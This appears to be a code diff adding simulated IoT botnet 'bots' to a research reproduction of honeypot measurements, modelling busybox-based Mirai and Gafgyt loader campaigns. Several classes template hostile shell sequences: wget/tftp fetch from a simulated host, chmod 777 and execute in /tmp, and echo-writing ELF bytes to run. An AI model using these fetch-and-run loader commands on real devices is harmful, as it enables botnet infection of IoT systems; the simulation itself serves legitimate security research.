@@ -1,0 +1,252 @@
+"""BusyBox-based loader bots (paper section 5, "File exec").
+
+``bb_5_diff_char_v2`` and ``bbox_unlabelled`` are the two leading
+file-exec bots in Figure 3(b): both lean on ``/bin/busybox`` to stage
+and run payloads on IoT-class targets.  ``bbox_unlabelled`` ends
+abruptly in mid-2022 (a takedown or retirement); ``bb_5_diff_char_v2``
+runs through the whole window, but its infrastructure stops serving
+files to honeypots after 2022 — which is half of Figure 4(a)'s story.
+"""
+
+from __future__ import annotations
+
+import random
+from datetime import date
+
+from repro.attackers.activity import Campaign, ConstantRate, Wave
+from repro.attackers.base import SAFE_NAME_ALPHABET, UPPER5, Bot, BotContext, random_password
+from repro.attackers.dictionary import root_credential
+from repro.attackers.ippool import ClientIPPool
+from repro.attackers.malware import MalwareFamily
+from repro.config import SimulationConfig
+from repro.honeypot.session import ConnectionIntent
+from repro.net.population import BasePopulation
+from repro.util.rng import RngTree
+
+#: The campaign's abrupt end (paper: "ends in mid-2022").
+BBOX_UNLABELLED_END = date(2022, 7, 15)
+
+
+def _marker(rng: random.Random, length: int = 5) -> str:
+    return random_password(rng, length, UPPER5)
+
+
+class Bbox5CharBot(Bot):
+    """``bb_5_diff_char_v2``: busybox probe + wget/tftp loader."""
+
+    telnet_fraction = 0.15
+
+    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
+        pool = ClientIPPool(
+            "bbox_5_char_v2", population, tree, paper_ips=60_000,
+            scale=config.scale,
+        )
+        super().__init__(
+            "bbox_5_char_v2",
+            ConstantRate(3_200, config.start, config.end),
+            pool,
+        )
+
+    @staticmethod
+    def capture_probability(day: date) -> float:
+        return 0.45 if day < date(2023, 1, 1) else 0.03
+
+    def build_intent(
+        self, ctx: BotContext, day: date, rng: random.Random, index: int
+    ) -> ConnectionIntent:
+        marker = _marker(rng)
+        sample = ctx.malware.sample_for(
+            MalwareFamily.MIRAI, stream=self.name,
+            day_ordinal=day.toordinal(), strain="bb5",
+        )
+        host = ctx.infrastructure.pick_host(rng, day)
+        filename = "".join(rng.choice(SAFE_NAME_ALPHABET) for _ in range(5))
+        http_url = host.url_for(filename)
+        tftp_url = host.url_for(filename, scheme="tftp")
+        captured = rng.random() < self.capture_probability(day)
+        remote = ((http_url, sample.content), (tftp_url, sample.content)) if captured else ()
+        lines = (
+            f"/bin/busybox {marker}",
+            "cd /tmp || cd /var/run || cd /mnt",
+            f"/bin/busybox tftp -g -r {filename} {host.ip}; "
+            f"/bin/busybox wget {http_url} -O {filename}",
+            f"/bin/busybox chmod 777 {filename}",
+            f"./{filename} {marker.lower()}",
+            f"/bin/busybox {marker}",
+        )
+        return self.make_intent(
+            rng,
+            credentials=(root_credential(rng),),
+            command_lines=lines,
+            remote_files=remote,
+        )
+
+
+class BboxUnlabelledBot(Bot):
+    """The unlabelled busybox campaign that vanishes mid-2022.
+
+    Two sub-variants (paper section 5): one fetches over wget/tftp (so
+    the honeypot captures the file), the other assumes an out-of-band
+    transfer and just executes — which the honeypot records as a
+    missing-file execution.
+    """
+
+    telnet_fraction = 0.25
+
+    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
+        pool = ClientIPPool(
+            "bbox_unlabelled", population, tree, paper_ips=80_000,
+            scale=config.scale,
+        )
+        super().__init__(
+            "bbox_unlabelled",
+            Campaign(config.start, BBOX_UNLABELLED_END, 12_000),
+            pool,
+        )
+
+    def build_intent(
+        self, ctx: BotContext, day: date, rng: random.Random, index: int
+    ) -> ConnectionIntent:
+        sample = ctx.malware.sample_for(
+            MalwareFamily.MIRAI, stream=self.name,
+            day_ordinal=day.toordinal(), strain="unlabelled",
+        )
+        filename = "".join(rng.choice(SAFE_NAME_ALPHABET) for _ in range(4))
+        if rng.random() < 0.5:
+            host = ctx.infrastructure.pick_host(rng, day)
+            url = host.url_for(filename)
+            captured = rng.random() < 0.6
+            remote = ((url, sample.content),) if captured else ()
+            lines = (
+                "busybox ps",
+                f"busybox wget {url} -O /tmp/{filename}",
+                f"busybox chmod 777 /tmp/{filename}",
+                f"/tmp/{filename}",
+            )
+        else:
+            # out-of-band variant: the file was never introduced via the
+            # shell, so the execution can only record "file missing".
+            remote = ()
+            lines = (
+                "busybox ps",
+                f"busybox chmod 777 /tmp/{filename}",
+                f"/tmp/{filename}",
+            )
+        return self.make_intent(
+            rng,
+            credentials=(root_credential(rng),),
+            command_lines=lines,
+            remote_files=remote,
+        )
+
+
+class BboxLoaderWgetBot(Bot):
+    """``bbox_loaderwget``: fetches a stager literally named loader.wget."""
+
+    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
+        pool = ClientIPPool(
+            "bbox_loaderwget", population, tree, paper_ips=15_000,
+            scale=config.scale,
+        )
+        super().__init__(
+            "bbox_loaderwget",
+            Campaign(date(2022, 1, 1), date(2022, 9, 30), 800),
+            pool,
+        )
+
+    def build_intent(
+        self, ctx: BotContext, day: date, rng: random.Random, index: int
+    ) -> ConnectionIntent:
+        sample = ctx.malware.sample_for(
+            MalwareFamily.GAFGYT, stream=self.name,
+            day_ordinal=day.toordinal(),
+        )
+        host = ctx.infrastructure.pick_host(rng, day)
+        url = host.url_for("loader.wget")
+        captured = rng.random() < 0.5
+        remote = ((url, sample.content),) if captured else ()
+        lines = (
+            f"wget {url} -O /tmp/loader.wget",
+            "sh /tmp/loader.wget",
+        )
+        return self.make_intent(
+            rng,
+            credentials=(root_credential(rng),),
+            command_lines=lines,
+            remote_files=remote,
+        )
+
+
+class BboxEchoElfBot(Bot):
+    """``bbox_echo_elf``: writes an ELF header byte-by-byte via echo."""
+
+    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
+        pool = ClientIPPool(
+            "bbox_echo_elf", population, tree, paper_ips=8_000,
+            scale=config.scale,
+        )
+        super().__init__(
+            "bbox_echo_elf", Wave(date(2022, 11, 10), 25, 600), pool
+        )
+
+    def build_intent(
+        self, ctx: BotContext, day: date, rng: random.Random, index: int
+    ) -> ConnectionIntent:
+        sample = ctx.malware.sample_for(
+            MalwareFamily.MIRAI, stream=self.name,
+            day_ordinal=day.toordinal(), strain="echoelf",
+        )
+        escaped = "".join(f"\\x{byte:02x}" for byte in sample.content[:24])
+        # the leading bytes spell \x7f\x45\x4c\x46 — the ELF magic the
+        # category regex keys on
+        lines = (
+            "/bin/busybox ps",
+            "cd /tmp",
+            f'echo -ne "{escaped}" > .e',
+            "chmod 777 .e",
+            "./.e",
+            "rm -rf .e",
+        )
+        return self.make_intent(
+            rng,
+            credentials=(root_credential(rng),),
+            command_lines=lines,
+        )
+
+
+class BboxRandExecBot(Bot):
+    """``bbox_rand_exec``: writes random bytes and tries to run them.
+
+    The paper flags this pattern as a honeypot-consistency probe: a
+    throwaway random file whose fate reveals emulation.
+    """
+
+    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig, exec_file: bool = True) -> None:
+        suffix = "" if exec_file else "#noexec"
+        pool = ClientIPPool(
+            f"bbox_rand_exec{suffix}", population, tree, paper_ips=10_000,
+            scale=config.scale,
+        )
+        activity = (
+            Campaign(date(2022, 4, 1), date(2023, 3, 31), 700)
+            if exec_file
+            else Campaign(date(2022, 4, 1), date(2023, 12, 31), 500)
+        )
+        super().__init__(f"bbox_rand_exec{suffix}", activity, pool)
+        self.exec_file = exec_file
+
+    def build_intent(
+        self, ctx: BotContext, day: date, rng: random.Random, index: int
+    ) -> ConnectionIntent:
+        lines = [
+            "cd /tmp",
+            "/bin/busybox dd if=/dev/urandom of=.r bs=32 count=1",
+        ]
+        if self.exec_file:
+            lines.extend(["/bin/busybox chmod 777 .r", "./.r"])
+        lines.append("ls -la .r")
+        return self.make_intent(
+            rng,
+            credentials=(root_credential(rng),),
+            command_lines=tuple(lines),
+        )
